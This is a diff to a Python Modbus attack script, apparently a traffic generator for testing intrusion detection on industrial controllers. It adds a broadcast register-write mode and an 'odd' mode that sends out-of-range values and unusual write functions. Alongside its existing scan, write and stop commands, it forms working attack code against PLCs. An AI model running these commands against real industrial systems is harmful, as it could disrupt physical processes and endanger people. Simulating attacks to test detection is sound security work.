@@ -1,6 +1,7 @@
 """What an intruder does with Modbus: looks for units and functions, reads, writes, stops, tries outputs.
 
-attack_modbus.py PLC units N | functions UNIT | read N | write VALUE | stop 0 | outputs ROUNDS | registers N
+attack_modbus.py PLC units N | functions UNIT | read N | write VALUE | stop 0 | outputs ROUNDS | registers N |
+                     broadcast VALUE | odd VALUE
 """
 
 import asyncio
@@ -52,6 +53,14 @@ async def main() -> None:  # noqa: PLR0912 (one branch a trick)
             await pause(0.5)
     elif what == "stop":
         await client.write_coil(0, False, device_id=1)
+    elif what == "broadcast":
+        for step in (0, 20, 40):
+            await client.write_register(50, number + step, device_id=0, no_response_expected=True)
+            await pause(0.5)
+    elif what == "odd":  # what a known client never did: a value far out of range, and two functions
+        await client.write_register(50, number, device_id=1)
+        await client.mask_write_register(address=51, and_mask=0xFF00, or_mask=0x0012, device_id=1)
+        await client.readwrite_registers(read_address=0, read_count=4, write_address=50, values=[number], device_id=1)
     elif what == "outputs":
         for turn in range(number):
             for coil in range(16):
